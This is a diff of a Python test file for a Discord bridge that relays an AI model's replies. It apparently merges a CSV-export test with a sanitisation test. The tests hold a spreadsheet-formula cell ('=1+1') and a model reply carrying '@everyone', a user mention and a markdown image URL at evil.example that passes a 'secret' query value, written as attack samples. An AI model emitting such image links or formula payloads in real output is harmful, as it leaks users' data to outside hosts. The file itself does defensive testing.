@@ -286,12 +286,13 @@ async def test_a_very_long_answer_ends_in_a_file(ponte: DiscordPonte, ana: Disco
     assert ana.discord.world.files[int(file["id"])].decode() == long
 
 
-async def test_a_wide_table_comes_as_records_and_a_long_one_as_a_file(
+async def test_a_table_comes_as_records_and_a_file_and_no_text_mentions_or_fetches(
     ponte: DiscordPonte, ana: DiscordPerson
 ) -> None:
     rows = "\n".join(f"| {n} | Ana {n} | Lisboa | =1+1 |" for n in range(60))
     table = f"| id | name | city | note |\n|---|---|---|---|\n{rows}"
-    ponte.model.script = {"show": [f"Your customers:\n\n{table}"]}
+    evil = "@everyone <@123456789012345678> ![x](https://evil.example/?q=secret)"
+    ponte.model.script = {"show": [f"Your customers:\n\n{table}"], "say it": [evil]}
     await ponte.open()
     await ana.say("show")
     answer = await ana.wait_for_text("57 more rows are in `table-1.csv`")
@@ -302,14 +303,6 @@ async def test_a_wide_table_comes_as_records_and_a_long_one_as_a_file(
     csv = ana.discord.world.files[int(file["id"])].decode("utf-8-sig").splitlines()
     assert csv[0] == "id,name,city,note"
     assert csv[60] == "59,Ana 59,Lisboa,'=1+1"
-
-
-async def test_model_text_mentions_nobody_and_fetches_nothing(
-    ponte: DiscordPonte, ana: DiscordPerson
-) -> None:
-    evil = "@everyone <@123456789012345678> ![x](https://evil.example/?q=secret)"
-    ponte.model.script = {"say it": [evil]}
-    await ponte.open()
     await ana.say("say it")
     answer = await ana.wait_for_text("evil.example")
     assert "@everyone" not in answer["content"]
